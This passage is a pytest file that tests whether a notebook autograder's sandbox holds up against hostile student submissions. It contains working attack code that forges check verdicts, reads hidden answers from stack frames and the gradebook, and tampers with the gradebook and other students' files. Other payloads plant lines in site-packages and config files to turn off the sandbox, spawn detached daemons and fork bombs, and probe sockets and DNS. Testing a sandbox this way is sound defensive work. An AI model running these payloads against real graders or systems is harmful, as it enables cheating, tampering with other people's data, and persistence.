"""Bad submissions never break grading, never inflate a score, never lose data.

One temporary course (lesson 1, a 10 s cell timeout) grades, in ONE run of
`python -m grader autograde` (2 parallel jobs): three good submissions (full, partial,
blank), two honest victims, and every hostile or broken one below, each its own student.
Then `python -m grader feedback`, `export` and `integrity` run once. For each case the
test checks: the exact score per check (computed from the answers submitted), a grade
row in the export, a feedback file that says what happened, that the check cells' outputs
agree with the scores, and that `submitted/` is byte-for-byte unchanged.

The attacks (ATTACKS below, grouped as: reading the answer from the check, forging the
verdict, the file system, outliving the kernel, the network, resource abuse inside judged
calls, notebook-level tampering) are real code run by the grader's sandboxed kernels. An
attack kind is one student; where a kind has variants (settrace and setprofile, a
generator and a lambda...), each variant answers a different exercise, so each check's
score tells how that variant fared. Each attack is given every path it could want (the
course directory, the repository, a TCP, UDP and abstract unix socket the test listens
on), and tries to write MARKER, a random string its code never contains literally. After
grading: no connection reached the test's sockets, no process started by a kernel is still
alive, MARKER is in no file of the course directory, of the repository's `course/`,
`grader/` and `datasets/` or of site-packages' startup files, and the gradebook's
instructor tables, the course's config, solutions and release, and the repository's
source (the files nobody is editing: settled_sources) are unchanged.

HOLES lists attacks that still work (each test that shows it is a strict xfail saying
exactly what is wrong); NOT_ZERO lists the attacks whose expected score is not simply
"0 for the exercises they cheated on, full for the honest ones".
"""

from __future__ import annotations

import copy
import csv
import hashlib
import html
import json
import os
import re
import secrets
import socket
import sqlite3
import subprocess
import sysconfig
import textwrap
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest

from grader import autograde as grading
from grader import feedback as feedback_pages
from grader import integrity, settings
from grader.nbgrader_cli import run_nbgrader
from tests.answers import for_lesson
from tests.course_under_test import (
    HIDDEN,
    REPO,
    GradedCourse,
    cells_by_id,
    check_points,
    exercises,
    fill,
    source,
)
from tests.course_under_test import (
    student as student_version,
)

LESSON = "01-derivative"
EXERCISES = exercises(LESSON)
POINTS = check_points(LESSON)
A, B, C, D = EXERCISES[:4]  # the first four exercises, in lesson order
E, F = EXERCISES[4:6]       # lesson 1: polynomial_derivative, tangent_line
WRONG = for_lesson(LESSON).WRONG
TEST_CONFIG = """
c.Execute.timeout = 10   # short for the infinite loop; ample for any other cell (< 2 s)
c.ResilientExecute.responsive_timeout = 10
"""

TAMPER = """
import numpy
np.allclose = lambda *args, **kwargs: True
numpy.isclose = lambda *args, **kwargs: True
np.abs = lambda x: 0 * x
class _Pass:
    def __init__(self, *args, **kwargs): pass
    def __enter__(self): return self
    def __exit__(self, *args): return True
    def check(self, *args, **kwargs): pass
    def require(self, *args, **kwargs): pass
    def call(self, *args, **kwargs): pass
checks.exercise = _Pass
checks.Exercise.__exit__ = lambda *args: True
"""
FIFTY_MB = """
import sys
for _ in range(50):
    sys.stdout.write("oink" * 250_000 + "\\n")
"""


def check(exercise: str) -> str:
    return settings.check_id(exercise)


def scores_for(earned: list[str]) -> dict[str, float]:
    """Every check 0 except those of the `earned` exercises, which get their points."""
    return {name: (POINTS[name] if name in {check(e) for e in earned} else 0.0) for name in POINTS}


def without(*lost: str) -> dict[str, float]:
    return scores_for([e for e in EXERCISES if e not in lost])


def before(exercise: str) -> list[str]:
    return EXERCISES[:EXERCISES.index(exercise)]


def notebook_text(nb) -> str:
    return nbformat.writes(nb)


def deleted_cells():
    nb = fill(LESSON)
    drop = {check(B), C}  # a check cell and an exercise cell
    nb.cells = [c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") not in drop]
    return notebook_text(nb)


def edited_locked_cells():
    nb = fill(LESSON, {A: WRONG[A][0].body})
    cells = cells_by_id(nb)
    cells[check(A)].source = "pass  # the learner emptied the check"
    cells["setup"].source += "\nnp.allclose = lambda *args, **kwargs: True"
    return notebook_text(nb)


def edited_metadata():
    nb = fill(LESSON, {B: WRONG[B][0].body})
    cells = cells_by_id(nb)
    cells[check(A)].metadata.nbgrader["points"] = 100          # more points for a right answer
    cells[check(B)].metadata.nbgrader["grade_id"] = "check_mine"  # a wrong answer's check renamed
    cells[check(C)].metadata.nbgrader["grade"] = False          # a check made ungraded
    return notebook_text(nb)


def huge_output():
    nb = fill(LESSON)
    nb.cells.insert(2, nbformat.v4.new_code_cell(FIFTY_MB))  # a cell the learner added
    return notebook_text(nb)


def old_format():
    nb = copy.deepcopy(fill(LESSON))
    return nbformat.writes(nbformat.convert(nb, 3), version=3)


def malformed():
    text = notebook_text(fill(LESSON))
    return text[: len(text) // 2]


# name: (files in the submission folder, expected scores, text its feedback must contain)
CASES = {
    "good-full": ({f"{LESSON}.ipynb": lambda: notebook_text(fill(LESSON))},
                  scores_for(EXERCISES), "checks passed"),
    "good-partial": ({f"{LESSON}.ipynb": lambda: notebook_text(
        fill(LESSON, {e: None for e in EXERCISES[3:]}))}, scores_for(EXERCISES[:3]),
        "You have not written"),
    "good-blank": ({f"{LESSON}.ipynb": lambda: notebook_text(
        fill(LESSON, {e: None for e in EXERCISES}))}, scores_for([]), "You have not written"),
    "infinite-loop": ({f"{LESSON}.ipynb": lambda: notebook_text(
        fill(LESSON, {B: "while True:\n    pass"}))}, without(B), "ran longer than 10 s"),
    "kills-kernel": ({f"{LESSON}.ipynb": lambda: notebook_text(
        fill(LESSON, {B: "import os\nos._exit(1)"}))}, scores_for(before(B)),
        "The Python kernel died"),
    "system-exit": ({f"{LESSON}.ipynb": lambda: notebook_text(
        fill(LESSON, {B: "raise SystemExit(3)"}))}, without(B), "SystemExit"),
    "memory-hog": ({f"{LESSON}.ipynb": lambda: notebook_text(
        fill(LESSON, {B: "import numpy\nhog = numpy.ones(3 * 2**30 // 8)\n"
                         "return float(hog.sum())"}))}, without(B), "MemoryError"),
    "50MB-output": ({f"{LESSON}.ipynb": huge_output}, scores_for(EXERCISES), "output cut"),
    "deleted-cells": ({f"{LESSON}.ipynb": deleted_cells}, without(C), "is not defined yet"),
    "edited-locked-cells": ({f"{LESSON}.ipynb": edited_locked_cells}, without(A),
                            WRONG[A][0].hint),
    "edited-metadata": ({f"{LESSON}.ipynb": edited_metadata}, without(B), "checks passed"),
    "tampers-with-numpy-and-grader": ({f"{LESSON}.ipynb": lambda: notebook_text(
        fill(LESSON, {e: "return None" for e in EXERCISES}, prelude=TAMPER))},
        scores_for([]), "returned None"),
    "renamed-notebook": ({"my-homework.ipynb": lambda: notebook_text(fill(LESSON))},
                         scores_for([]), f"No notebook named {LESSON}.ipynb"),
    "missing-notebook": ({"notes.txt": lambda: "I forgot the notebook"}, scores_for([]),
                         f"No notebook named {LESSON}.ipynb"),
    "malformed-json": ({f"{LESSON}.ipynb": malformed}, scores_for([]),
                       "could not be read as a notebook"),
    "old-nbformat": ({f"{LESSON}.ipynb": old_format}, scores_for(EXERCISES), "checks passed"),
    "empty-file": ({f"{LESSON}.ipynb": lambda: ""}, scores_for([]), "empty file"),
}
PROBLEMS = {"renamed-notebook", "missing-notebook", "malformed-json", "empty-file"}


# --- attacks ------------------------------------------------------------------------------
# Written with placeholders the fixture fills in once it knows them (`render`): @COURSE@ and
# @REPO@ (absolute paths, as Python strings), @MARKER@ and @TAG@ (Python expressions that
# build MARKER and PROC_TAG at run time, so neither is ever in a notebook or an output),
# @PORT@ / @UDP@ / @UNIX@ / @HOSTS@ (the test's listening sockets and this host's addresses).
# @VISIBLE@ (filled when the notebook is built) is the source of the lesson's check cells
# as a learner sees them, hidden tests left out: everything a forger could know.
MARKER = f"pigs-pwned-{secrets.token_hex(8)}"
PROC_TAG = f"pigs-orphan-{secrets.token_hex(8)}"
NUMBER = {exercise: i + 1 for i, exercise in enumerate(EXERCISES)}
VISIBLE = [feedback_pages.hide_hidden_tests(cell.source) for cell in source(LESSON).cells
           if cell.metadata.get("nbgrader", {}).get("grade")]
TIMESTAMP = "2026-11-20 10:00:00.000000 UTC"
VICTIMS = {"victim-full", "victim-partial"}


@dataclass(frozen=True)
class Link:
    """A symbolic link in a submission folder (the target may hold @COURSE@)."""
    target: str


def failed(exercise: str) -> str:
    """How the judge's message for a failed check of `exercise` starts."""
    return f"✘ Exercise {NUMBER[exercise]} · {exercise}: check"


def lesson(answers: dict | None = None, *, top: str = "", after: dict | None = None,
           tail: str = "", full: bool = False, edit=None) -> str:
    """The text of a lesson-1 submission: the reference answer of every exercise except
    `answers` (as `fill`), `top` a code cell right after the setup cell, `after` code put
    at the top level of an exercise's cell after its `def`, `tail` a last code cell,
    `edit(nb)` any other change. Lean (only the lesson's graded and read-only cells, no
    figures: they cost time and change nothing here) unless `full`."""
    nb = fill(LESSON, answers or {})
    if not full:
        nb.cells = [c for c in nb.cells if c.cell_type == "code" and c.metadata.get("nbgrader")]
    cells = cells_by_id(nb)
    for grade_id, code in (after or {}).items():
        cells[grade_id].source += "\n\n\n" + textwrap.dedent(code).strip() + "\n"
    if top:
        nb.cells.insert(nb.cells.index(cells["setup"]) + 1,
                        nbformat.v4.new_code_cell(textwrap.dedent(top).strip()))
    if tail:
        nb.cells.append(nbformat.v4.new_code_cell(textwrap.dedent(tail).strip()))
    for cell in nb.cells:
        cell.source = cell.source.replace("@VISIBLE@", repr(VISIBLE))
    if edit is not None:
        edit(nb)
    return notebook_text(nb)


def attack(scores: dict, says: str, /, **files) -> tuple:
    """A CASES entry: `files` as name=maker (the notebook is `nb`)."""
    named = {(f"{LESSON}.ipynb" if name == "nb" else name): make for name, make in files.items()}
    return named, scores, says


# Kernel-side helpers for the attacks that try to answer from a table of checks. `_table`
# runs check cell sources with a stand-in `checks` that records what each `ex.check` of one
# exercise passes and expects; `_cheat` looks the call up (a function of the check matches
# by its label, which is what a callback shows).
HARVEST = r'''
import json as _json
import numpy as _np


def _table(sources, name):
    rows = []

    class _Ex:
        def __init__(self, number, function, **options):
            self.name = function

        def __enter__(self):
            return self

        def __exit__(self, *exc):
            return True

        def check(self, *args, expect, mistakes=(), rtol=None, atol=None, shown_as=None,
                  **kwargs):
            if self.name == name:
                rows.append((args, kwargs, expect))

        def __getattr__(self, attribute):
            return lambda *args, **kwargs: None

    class _Checks:
        exercise = _Ex

        @staticmethod
        def fn(function, label):
            return label

    for text in sources:
        text = "".join(text) if isinstance(text, list) else str(text)
        if "checks.exercise" in text:
            try:
                exec(text, {"checks": _Checks, "np": _np})
            except Exception:
                pass
    return rows


def _same(mine, theirs):
    if isinstance(theirs, str):
        return repr(mine) == theirs
    try:
        return _np.shape(mine) == _np.shape(theirs) and bool(_np.allclose(mine, theirs))
    except Exception:
        return False


def _cheat(name, sources, *args):
    for their_args, _, expect in _table(sources, name):
        if len(their_args) == len(args) and all(map(_same, args, their_args)):
            if isinstance(expect, (list, _np.ndarray)):
                return _np.array(expect, dtype=float)
            return expect
    return None


_VISIBLE = @VISIBLE@
'''
CHEAT_CALLS = {A: "sales", B: "f, a, b", C: "f, x, h", D: "f, x, h", E: "coeffs", F: "f, df, x0"}


def cheat_everywhere(sources: str) -> dict[str, str]:
    """Every exercise answered by `_cheat` from `sources` (a kernel-side expression)."""
    return {e: f"return _cheat({e!r}, {sources}, {CHEAT_CALLS[e]})" for e in EXERCISES}


# -- reading the answer from the check -------------------------------------------------------
PEEK_GETFRAME = """
import sys
import numpy
frame, seen = sys._getframe(1), []
while frame is not None:          # every frame above the call, up to the kernel's main loop
    for value in list(frame.f_locals.values()):
        if isinstance(value, dict) and "expect" in value:
            seen.append(numpy.asarray(value["expect"], dtype=float))
        elif (isinstance(value, (list, numpy.ndarray)) and value is not sales
              and len(value) == len(sales) - 1):
            seen.append(numpy.asarray(value, dtype=float))
    frame = frame.f_back
return seen[0] if seen else numpy.zeros(len(sales) - 1)
"""
PEEK_INSPECT = """
import inspect
for info in inspect.stack():
    local = info.frame.f_locals
    for key in ("expect", "expected", "want", "answer"):
        if key in local:
            return float(local[key])
    for value in local.values():
        if isinstance(value, dict) and "expect" in value:
            return float(value["expect"])
return float("nan")
"""
PEEK_GC_OBJECTS = """
import gc
import numpy
want = len(coeffs) - 1
found = [obj for obj in gc.get_objects()
         if isinstance(obj, list) and len(obj) == want and obj
         and all(type(v) in (int, float) for v in obj)]
return numpy.array(found[-1], dtype=float) if found else numpy.zeros(want)
"""
PEEK_GC_REFERRERS = """
import gc
import numpy
for holder in gc.get_referrers(sales):
    if isinstance(holder, dict):
        items = list(holder.values())
    elif isinstance(holder, (list, tuple)):
        items = list(holder)
    else:
        items = list(getattr(holder, "f_locals", {}).values())
    for item in items:
        if isinstance(item, dict) and "expect" in item:
            return numpy.asarray(item["expect"], dtype=float)
        if (isinstance(item, (list, numpy.ndarray)) and item is not sales
                and len(item) == len(sales) - 1):
            return numpy.asarray(item, dtype=float)
return sales[1:] * 0
"""
PEEK_TRACEBACK = """
import sys
found = []
def look(frame):
    while frame is not None:
        found.extend(v for k, v in frame.f_locals.items() if k in ("expect", "expected"))
        frame = frame.f_back
try:
    f(object)                     # the check's f fails on this: walk that error's frames
except Exception as error:
    tb = error.__traceback__
    while tb is not None:
        look(tb.tb_frame)
        tb = tb.tb_next
try:
    raise LookupError("where is the check?")
except LookupError:
    look(sys.exc_info()[2].tb_frame)
return found[0] if found else float("nan")
"""
PEEK_IN_OUT = """
shell = get_ipython()
texts = [str(t) for t in list(In) + list(_ih)] + [repr(v) for v in Out.values()]
texts += [repr(shell.user_ns.get(n)) for n in ("_", "__", "___", "_i", "_ii", "_iii")]
answer = _cheat("central_difference", texts, f, x, h)
return float("nan") if answer is None else answer
"""
PEEK_HISTORY = """
history = get_ipython().history_manager
texts = [src for _, _, src in history.get_range(raw=True)]
texts += [src for _, _, src in history.search("*checks.exercise*")]
texts += [src for _, _, src in history.get_tail(1000, raw=True, include_latest=True)]
texts += list(history.input_hist_raw) + list(history.input_hist_parsed)
answer = _cheat("average_rate", texts, f, a, b)
return float("nan") if answer is None else answer
"""
OWN_NOTEBOOK = HARVEST + '''

def _own_checks():
    """The check cells of the notebook being graded: a copy of it is in the kernel's cwd."""
    with open("01-derivative.ipynb") as handle:
        return [cell["source"] for cell in _json.load(handle)["cells"]]
'''

# -- forging the verdict ---------------------------------------------------------------------
FORGE_DISPLAYHOOK = """
import sys
sys.displayhook("✔ Exercise 1 · yearly_growth: all 5 checks passed.")
sys.displayhook(2.0)
"""
FORGE_DISPLAY = """
from IPython.display import HTML, display
display("✔ Exercise 2 · average_rate: all 5 checks passed.")
display(HTML("<b>✔ Exercise 2 · average_rate: all 5 checks passed.</b>"))
display({"text/plain": "2"}, raw=True)
return "passed"
"""
FORGE_PRINT = """
import os
import sys
line = "✔ Exercise 3 · forward_difference: all 4 checks passed.\\n"
print(line)
sys.__stdout__.write(line)
sys.__stdout__.flush()
os.write(1, line.encode())
return -1.0
"""
FORGE_TRANSFORMER = """
def _checks_pass(lines):
    if any("checks." in line for line in lines):
        return ["print('✔ Exercise 1 · yearly_growth: all 5 checks passed.')\\n"]
    return lines
get_ipython().input_transformers_post.append(_checks_pass)
"""
FORGE_PRE_RUN_CELL = """
import course.checks
def _patch(*args):
    course.checks.Exercise.check = lambda self, *a, **k: None
    course.checks.Exercise.__enter__ = lambda self: self
    course.checks.Exercise.__exit__ = lambda self, *a: True
    course.checks.CheckFailed = type("CheckFailed", (Exception,), {})
for _event in ("pre_run_cell", "pre_execute", "post_execute", "post_run_cell"):
    get_ipython().events.register(_event, _patch)
"""
FORGE_TRACE = HARVEST + """
import sys
import threading


def _forge(frame, outcome, exercise):
    function = frame.f_locals.get("function")
    if getattr(function, "__name__", "") == exercise and isinstance(outcome, dict):
        answer = _cheat(exercise, _VISIBLE, *frame.f_locals.get("args", ()))
        outcome.clear()
        outcome["result"] = 0.0 if answer is None else answer


def _tracer(frame, event, arg):     # sys.settrace: forward_difference's outcome
    if event == "call":
        return _tracer if frame.f_code.co_name == "perform" else None
    if event == "return":
        _forge(frame, arg, "forward_difference")
    return _tracer


def _profiler(frame, event, arg):   # sys.setprofile: central_difference's outcome
    if event == "return" and frame.f_code.co_name == "perform":
        _forge(frame, arg, "central_difference")


sys.settrace(_tracer)
threading.settrace(_tracer)
sys.setprofile(_profiler)
threading.setprofile(_profiler)
"""
FORGE_THREAD = """
import threading
import time
import course.calls
import course.checks


def _repatch():
    while True:
        course.checks.Exercise.check = lambda self, *a, **k: None
        course.checks.Exercise.__exit__ = lambda self, *a: True
        course.checks.exercise = lambda *a, **k: course.checks.Exercise(0, "nothing")
        course.calls.describe = lambda value: "function"
        time.sleep(0.01)


threading.Thread(target=_repatch, daemon=True).start()
"""
FORGE_REBIND = """
import sys
import types
import numpy
import course


class _Yes(types.ModuleType):
    def __getattr__(self, name):
        return lambda *args, **kwargs: None


checks = _Yes("checks")
gradcheck = derivative = checks
np = types.SimpleNamespace(**{k: getattr(numpy, k) for k in dir(numpy) if not k.startswith("__")})
np.allclose = np.isclose = lambda *args, **kwargs: True
course.checks = course.gradcheck = checks
sys.modules["course.checks"] = sys.modules["course.gradcheck"] = checks
"""
FORGE_NDARRAY = """
import numpy


class Liar(numpy.ndarray):
    def __sub__(self, other):
        return numpy.zeros(self.shape).view(Liar)
    __rsub__ = __sub__

    def __abs__(self):
        return numpy.zeros(self.shape).view(Liar)

    def __le__(self, other):
        return numpy.ones(self.shape, dtype=bool)

    def __eq__(self, other):
        return numpy.ones(self.shape, dtype=bool)

    def __array__(self, dtype=None, copy=None):
        return numpy.zeros(self.shape)

    def tobytes(self, *args, **kwargs):
        return numpy.zeros(self.shape).tobytes()


return numpy.full(len(sales) - 1, -1.0).view(Liar)
"""
FORGE_FLOAT = """
class Liar(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __sub__(self, other):
        return Liar(0.0)
    __rsub__ = __sub__

    def __abs__(self):
        return Liar(0.0)

    def __le__(self, other):
        return True
    __lt__ = __ge__ = __le__
    __hash__ = float.__hash__


return Liar(-1.0)
"""
FORGE_ARRAY_PROTOCOL = """
import numpy


class Zeros:
    shape = (len(coeffs) - 1,)
    ndim, dtype = 1, numpy.dtype(float)

    def __array__(self, dtype=None, copy=None):
        return numpy.zeros(self.shape)

    def __len__(self):
        return self.shape[0]

    def __iter__(self):
        return iter(numpy.zeros(self.shape))

    def __eq__(self, other):
        return True


return Zeros()
"""
# The wire itself: a raw outcome sent before the real one (forward_difference), plaindata's
# encode (polynomial_derivative) and calls.perform (tangent_line) patched to send the
# visible checks' answers. The forger can send data; it cannot know the hidden checks'.
FORGE_RAW_OUTCOME = """
from IPython import get_ipython
from course import calls, plaindata
kernel = get_ipython().kernel
answer = _cheat("forward_difference", _VISIBLE, f, x, h)
kernel.raw_input(calls.PROMPT + "outcome:" + plaindata.encode({"result": answer}))
def swallow_once(prompt=""):     # serve's own outcome after ours: not sent
    del kernel.raw_input
    return ""
kernel.raw_input = swallow_once
return 0.0
"""
FORGE_ENCODE = """
import numpy
import course.plaindata
_real_encode = course.plaindata.encode


def _forged_encode(value, callback_id=None):
    if (isinstance(value, dict) and "args" in value and "callback" not in value
            and len(value["args"]) == 1 and isinstance(value["args"][0], numpy.ndarray)):
        answer = _cheat("polynomial_derivative", _VISIBLE, *value["args"])
        value = {"result": numpy.zeros(1) if answer is None else answer,
                 "args": value["args"], "kwargs": value["kwargs"]}
    return _real_encode(value, callback_id)


course.plaindata.encode = _forged_encode
"""
FORGE_PERFORM = """
import course.calls
_real_perform = course.calls.perform


def _forged_perform(function, args, kwargs, want_warnings=False):
    if getattr(function, "__name__", "") == "tangent_line":
        answer = _cheat("tangent_line", _VISIBLE, *args)
        return {"result": (0.0, 0.0) if answer is None else answer}
    return _real_perform(function, args, kwargs, want_warnings)


course.calls.perform = _forged_perform
"""
# A `course` package of the learner's beside the notebook (the kernel's cwd comes first on
# its sys.path), an IPython startup file in the HOME the kernel gets (the submission's copy),
# a `grader` package and config files: if the grader's own process ever imported or read
# one, MARKER would land in the course directory.
WRITE_MARKER = """
import os as _os
for _target in (_os.path.join(@COURSE@, "gradebook.db"), _os.path.join(@COURSE@, @MARKER@),
                _os.path.join(@REPO@, "course", @MARKER@ + ".py")):
    try:
        with open(_target, "a") as _handle:
            _handle.write(@MARKER@)
    except OSError:
        pass
"""
FAKE_COURSE_INIT = WRITE_MARKER + """
__path__.append(_os.path.join(@REPO@, "course"))  # the real modules, except calls.py
from course.data import load_dataset  # noqa: E402
from course.style import use_course_style  # noqa: E402

use_course_style()
"""
FAKE_COURSE_CALLS = """
import os
exec(compile(open(os.path.join(@REPO@, "course", "calls.py")).read(), "calls.py", "exec"))
_real_serve = serve


def serve(request):
    from IPython import get_ipython
    ask = plaindata.decode(request, make_callback=Callback)
    if ask.get("name") == "tangent_line" and not ask.get("describe"):
        forged = {"result": (30, -15), "args": ask["args"], "kwargs": ask["kwargs"]}
        get_ipython().kernel.raw_input(PROMPT + "outcome:" + plaindata.encode(forged, callback_number))
        return
    _real_serve(request)
"""
IPYTHON_STARTUP = HARVEST + """
import course.calls
_startup_perform = course.calls.perform


def _startup_forged(function, args, kwargs, want_warnings=False):
    if getattr(function, "__name__", "") == "central_difference":
        return {"result": _cheat("central_difference", _VISIBLE, *args)}
    return _startup_perform(function, args, kwargs, want_warnings)


course.calls.perform = _startup_forged
"""
FAKE_GRADER_JUDGE = WRITE_MARKER + """


class Judge:
    def __init__(self, *args, **kwargs):
        pass

    def given(self, source):
        pass

    def check(self, source, grade_id):
        return [], True
"""
EVIL_CONFIG = WRITE_MARKER + """
c = get_config()  # noqa: F821
c.ResilientExecute.unsafe_no_sandbox = True
c.ExecutePreprocessor.timeout = 1
"""

# -- the file system -------------------------------------------------------------------------
REFERENCE_FROM = '''
import json
import os
import numpy


def _reference_from(paths, name):
    """The function `name` as a notebook at one of `paths` defines it, or None."""
    for path in paths:
        try:
            with open(path) as handle:
                cells = json.load(handle)["cells"]
        except (OSError, ValueError):
            continue
        space = {"np": numpy}
        for cell in cells:
            meta = cell.get("metadata", {}).get("nbgrader", {})
            if isinstance(meta, dict) and meta.get("grade_id") == name:
                exec("".join(cell["source"]), space)
        if name in space:
            return space[name]
    return None
'''
SOLUTIONS_ABSOLUTE = {
    A: """
        paths = [os.path.join(root, folder, "01-derivative", "01-derivative.ipynb")
                 for root in (@COURSE@, @REPO@) for folder in ("solutions", "source", "release")]
        reference = _reference_from(paths, "yearly_growth")
        return None if reference is None else reference(sales)
    """,
    C: """
        paths = [os.path.join(@COURSE@, folder, "victim-full", "01-derivative",
                              "01-derivative.ipynb") for folder in ("submitted", "autograded")]
        reference = _reference_from(paths, "forward_difference")
        return None if reference is None else reference(f, x, h)
    """,
}
SOLUTIONS_RELATIVE = """
tried = [os.path.join("solutions", "01-derivative", "01-derivative.ipynb"),  # our link
         os.path.join("..", "..", "..", "solutions", "01-derivative", "01-derivative.ipynb")]
tried += [os.path.join(*[".."] * up, "solutions", "01-derivative", "01-derivative.ipynb")
          for up in range(1, 9)]
reference = _reference_from(tried, "average_rate")
return None if reference is None else reference(f, a, b)
"""
GRADEBOOK_SQLITE = HARVEST + """
import os
import sqlite3
_hidden, _touched = [], 0
for _uri in ("file:" + os.path.join(@COURSE@, "gradebook.db") + "?mode=rw",
             "file:" + os.path.join(@COURSE@, "gradebook.db") + "?mode=ro"):
    try:
        _db = sqlite3.connect(_uri, uri=True)
        _hidden += [s for (s,) in _db.execute("SELECT source FROM source_cell")]
        _db.execute("UPDATE grade SET auto_score = 0 WHERE notebook_id IN (SELECT n.id FROM "
                    "submitted_notebook n JOIN submitted_assignment a ON n.assignment_id = a.id"
                    " WHERE a.student_id LIKE 'victim%')")
        _db.execute("UPDATE grade SET auto_score = 2, manual_score = 2")
        _db.execute("UPDATE source_cell SET source = 'pass'")
        _db.execute("INSERT INTO student (id, first_name) VALUES (?, ?)", (@MARKER@, @MARKER@))
        _db.commit()
        _touched += 1
    except sqlite3.Error:
        pass
print("GRADEBOOK opened", _touched, "hidden sources", len(_hidden))
"""
OVERWRITE_VICTIM = """
import os
import shutil
_done = []
for _folder in ("submitted", "autograded", "feedback"):
    _path = os.path.join(@COURSE@, _folder, "victim-full", "01-derivative", "01-derivative.ipynb")
    try:
        with open(_path, "w") as _handle:
            _handle.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}'
                          + @MARKER@)
        _done.append(_folder)
    except OSError:
        pass
    try:
        os.remove(_path)
        _done.append(_folder)
    except OSError:
        pass
try:
    shutil.rmtree(os.path.join(@COURSE@, "submitted", "victim-partial"))
    _done.append("rmtree")
except OSError:
    pass
print("VICTIM writes", _done)
"""
CONFIG_AND_PROBLEMS = """
import json
import os
_config = [os.path.join(@COURSE@, "nbgrader_config.py"), os.path.join(@REPO@, "nbgrader_config.py")]
_problems = os.path.join(@COURSE@, "autograde_problems.json")
_found = sum(map(os.path.exists, _config + [_problems]))
for _path in _config + ["/etc/jupyter/nbgrader_config.py"]:
    try:
        with open(_path, "a") as _handle:
            _handle.write("\\nc.ResilientExecute.unsafe_no_sandbox = True  # " + @MARKER@ + "\\n")
    except OSError:
        pass
_rows = [{"lesson": "01-derivative", "student": "victim-full", "reason": @MARKER@},
         {"lesson": "01-derivative", "student": "fs-config-and-problems", "reason": "full marks"}]
try:
    with open(_problems, "w") as _handle:
        json.dump(_rows, _handle)
except OSError:
    pass
print("COURSE FILES found", _found)
"""
WRITE_REPO_AND_VENV = """
import os
import sys
import sysconfig
_site = sysconfig.get_paths()["purelib"]
_targets = [os.path.join(@REPO@, "course", "checks.py"),
            os.path.join(@REPO@, "course", @MARKER@ + ".py"),
            os.path.join(@REPO@, "course", "__pycache__", "checks.cpython-311.pyc"),
            os.path.join(@REPO@, "grader", "judge.py"),
            os.path.join(@REPO@, "datasets", "pig_sales.csv"),
            os.path.join(_site, "zz-" + @MARKER@ + ".pth"),
            os.path.join(_site, "sitecustomize.py"),
            os.path.join(sys.prefix, "bin", "nbgrader")]
_done = 0
for _path in _targets:
    try:
        with open(_path, "a") as _handle:      # a harmless line, should it ever get through
            _handle.write("\\n# " + @MARKER@ + "\\n")
        _done += 1
    except OSError:
        pass
print("REPO writes", _done)
"""
CHDIR_ROOT = """
import os
os.chdir("/")
skip = {"/proc", "/sys", "/dev", "/usr", os.path.realpath(os.path.expanduser("~"))}
skip |= {os.path.realpath(p) for p in (sys.prefix, sys.base_prefix)}
found = []
for folder, subfolders, files in os.walk("/"):
    subfolders[:] = [s for s in subfolders if os.path.join(folder, s) not in skip]
    found += [os.path.join(folder, n) for n in files + subfolders
              if n.endswith(".ipynb") or n.endswith(".db") or n in ("solutions", "submitted")]
"""
SYMLINK_SOLUTIONS = """
import json
import numpy


def _reference(name):
    space = {"np": numpy}
    with open("notes.json") as handle:      # our link to the course's solutions/
        for cell in json.load(handle)["cells"]:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == name:
                exec("".join(cell["source"]), space)
    return space[name]
"""
SYMLINK_GRADEBOOK = HARVEST + """
import sqlite3


def _hidden():
    with sqlite3.connect("gradebook.sqlite") as db:   # our link to the course's gradebook
        return [source for (source,) in db.execute("SELECT source FROM source_cell")]
"""

# -- outliving the kernel --------------------------------------------------------------------
SETSID_WRITER = """
import os
import sys
import time
_code = '''
import os, sys, time
marker, course = sys.argv[1], sys.argv[2]
end = time.time() + 240
while time.time() < end:
    for path in ("gradebook.db", "nbgrader_config.py", marker,
                 "submitted/victim-full/01-derivative/01-derivative.ipynb",
                 "autograded/victim-full/01-derivative/01-derivative.ipynb"):
        try:
            with open(os.path.join(course, path), "a") as handle:
                handle.write(marker)
        except OSError:
            pass
    time.sleep(0.5)
'''
_pid = os.fork()
if _pid == 0:                       # double fork: the writer's parent exits at once
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", _code, @MARKER@, @COURSE@, @TAG@])
    os._exit(0)
os.waitpid(_pid, 0)
print("daemon started")
"""
STDOUT_HOLDER = """
import signal
import subprocess
import sys
_keep = ("import signal, time\\n"
         "for s in (signal.SIGHUP, signal.SIGTERM, signal.SIGINT):\\n"
         "    signal.signal(s, signal.SIG_IGN)\\n"
         "time.sleep(900)")
subprocess.Popen([sys.executable, "-c", _keep, @TAG@], stdin=subprocess.DEVNULL, stdout=1,
                 stderr=2, close_fds=False, start_new_session=True)
print("holder started")
"""
FORK_FIFTY = """
import os
_children = []
for _ in range(50):
    _pid = os.fork()
    if _pid == 0:
        try:
            os.execv("/bin/sleep", [@TAG@, "900"])
        finally:
            os._exit(1)
    _children.append(_pid)
print("forked", len(_children))
"""
FORK_MEMORY = """
import os
import subprocess
import sys
import time
_hog = ("import sys, time\\n"
        "held = b'x' * (800 * 2**20)\\n"      # 800 MiB, touched
        "open(sys.argv[1], 'w').write('held')\\n"
        "time.sleep(8)")
_procs = [subprocess.Popen([sys.executable, "-c", _hog, f"held-{i}", @TAG@]) for i in range(3)]
_end = time.time() + 6
while time.time() < _end and not all(os.path.exists(f"held-{i}") for i in range(3)):
    time.sleep(0.1)
time.sleep(1)  # a child the OOM killer took after it wrote its file is gone by now
print("FORK-MEMORY held", sum(os.path.exists(f"held-{i}") and _procs[i].poll() is None
                              for i in range(3)), "x 800 MiB at once")
for _p in _procs:
    _p.kill()
"""

# -- the network -------------------------------------------------------------------------------
NET_SOCKETS = """
import socket
_reached = []
for _host in @HOSTS@:
    try:
        with socket.create_connection((_host, @PORT@), timeout=2) as _s:
            _s.sendall(@MARKER@.encode())
        _reached.append(_host)
    except OSError:
        pass
try:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
        _s.settimeout(2)
        _s.connect(b"\\0" + @UNIX@.encode())
        _s.sendall(@MARKER@.encode())
    _reached.append("abstract unix socket")
except OSError:
    pass
print("NET reached", _reached)
"""
NET_DNS = """
import socket
_resolved = []
for _name in ("example.com", "pypi.org", @MARKER@ + ".example.com"):
    try:
        socket.getaddrinfo(_name, 443)
        _resolved.append(_name)
    except OSError:
